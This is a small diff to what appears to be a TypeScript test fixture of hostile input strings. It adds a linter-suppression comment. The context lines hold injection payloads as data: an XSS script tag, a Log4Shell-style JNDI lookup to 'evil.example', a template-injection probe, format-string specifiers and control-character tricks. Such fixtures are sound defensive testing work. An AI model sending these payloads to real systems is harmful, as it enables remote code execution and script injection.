@@ -41,6 +41,7 @@ export const HOSTILE_STRINGS: readonly string[] = [
   '\u202Eevil\u202C \u2066iso\u2069 \u200Bzero\u200Dwidth\uFEFF',
   '\u0000\u0001\u0007\u001b[31mred\u001b[0m\u007f',
   '&lt;script&gt; <script>alert(1)</script> &amp;',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile literal, not a template
   '${jndi:ldap://evil.example/a} {{7*7}} %s%n%x',
   '\uD800 lone surrogate \uDFFF',
   'x'.repeat(70_000),
